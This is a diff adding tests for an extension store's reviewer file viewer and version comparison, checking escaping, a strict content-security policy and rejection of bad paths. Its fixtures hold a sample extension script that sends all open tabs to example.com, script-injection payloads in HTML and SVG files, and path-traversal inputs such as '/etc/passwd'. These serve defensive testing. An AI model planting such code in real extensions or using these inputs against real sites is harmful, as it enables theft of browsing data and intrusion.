@@ -16,6 +16,15 @@ from tests.web.conftest import csrf_of, log_in_as
 from tests.web.test_pages import text_of
 
 
+# What 2.0 adds to 1.1's files (manifest.json and background.js), and how it changes background.js.
+NEW_FILES = {
+    "background.js": "console.log(1);\nbrowser.tabs.query({}).then(tabs => fetch('https://example.com/', {body: tabs}));",
+    "popup.html": "<!doctype html><p>Hi</p><script>alert('popup')</script>",
+    "icon.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>',
+    "data.bin": b"\x00\x01\x02\xff binary",
+}
+
+
 @pytest.fixture
 def package(tmp_path):
     """A listed extension's package: package(version, permissions, **files)."""
@@ -39,7 +48,7 @@ def submitted(client, store, developer, package, run_jobs):  # noqa: F811 (fixtu
     with store.db.session() as session:
         approve(session, pending_version(session, "test@example.org", "1.1"), None, "Fine.")
     run_jobs()
-    assert put(client, headers, package("2.0", ["storage", "tabs"], ("https://example.com/*",)),
+    assert put(client, headers, package("2.0", ["storage", "tabs"], ("https://example.com/*",), **NEW_FILES),
                channel="listed").status_code in (201, 202)
     run_jobs()
     with store.db.session() as session:
@@ -188,3 +197,49 @@ def test_odd_decisions_are_worded_not_errors(client, store, reviewer, submitted)
     assert odd.status_code == 400 and "Choose to approve or to reject." in text_of(odd)
     token = csrf_of(client.get("/reviewers/"))
     assert client.post("/reviewers/review/abc", data={"csrf_token": token, "decision": "approve"}).status_code == 404
+
+
+def test_the_file_tree_shows_package_files_as_escaped_text_under_a_strict_policy(client, store, reviewer, submitted):
+    log_in_as(client, store, reviewer)
+    tree = client.get(f"/reviewers/review/{submitted}/files")
+    assert tree.status_code == 200
+    assert [name for name in ("background.js", "data.bin", "icon.svg", "manifest.json", "popup.html")
+            if f"?path={name}" in tree.text] == ["background.js", "data.bin", "icon.svg", "manifest.json", "popup.html"]
+    for name, active in (("popup.html", "<script>alert('popup')</script>"), ("icon.svg", '<script>alert("svg")</script>')):
+        page = client.get(f"/reviewers/review/{submitted}/files", params={"path": name})
+        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
+        assert active in text_of(page) and active not in page.text and "&lt;script&gt;" in page.text
+        policy = page.headers["content-security-policy"]
+        assert "script-src 'none'" in policy and "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
+    binary = client.get(f"/reviewers/review/{submitted}/files", params={"path": "data.bin"})
+    assert "A binary file of 11 bytes: not shown." in text_of(binary) and "\x00" not in binary.text
+    lines = client.get(f"/reviewers/review/{submitted}/files", params={"path": "background.js"})
+    assert '<tr id="L2"><th scope="row">2</th>' in lines.text and "browser.tabs.query" in text_of(lines)
+
+
+@pytest.mark.parametrize("path", ["nothing.js", "../manifest.json", "/etc/passwd", "", "a" * 5000, "%00"])
+def test_a_file_the_package_does_not_have_is_not_found(client, store, reviewer, submitted, path):
+    log_in_as(client, store, reviewer)
+    assert client.get(f"/reviewers/review/{submitted}/files", params={"path": path}).status_code == 404
+
+
+def test_the_diff_lists_added_and_changed_files_and_their_lines(client, store, reviewer, submitted):
+    log_in_as(client, store, reviewer)
+    page = client.get(f"/reviewers/review/{submitted}/compare")
+    assert page.status_code == 200 and "script-src 'none'" in page.headers["content-security-policy"]
+    text = text_of(page)
+    assert "Compared with the approved version 1.1." in text
+    assert "popup.html (added)" in text and "icon.svg (added)" in text and "data.bin (added)" in text
+    assert "background.js (changed)" in text and "manifest.json (changed)" in text
+    assert "0 files unchanged." in text
+    assert "<ins>browser.tabs.query({}).then(tabs =&gt; fetch(&#39;https://example.com/&#39;, {body: tabs}));</ins>" in page.text
+    assert "<tr class=\"diff-context\"><th scope=\"row\"></th><td><pre>console.log(1);</pre>" in page.text
+    assert "<ins>&lt;!doctype html&gt;&lt;p&gt;Hi&lt;/p&gt;&lt;script&gt;" in page.text
+    assert "A binary file: its lines are not compared." in text
+
+
+def test_a_first_version_has_nothing_to_compare_with(client, store, reviewer, submitted):
+    with store.db.session() as session:
+        first = session.scalar(select(Version.id).where(Version.version == "1.1"))
+    log_in_as(client, store, reviewer)
+    assert "nothing to compare with" in text_of(client.get(f"/reviewers/review/{first}/compare"))
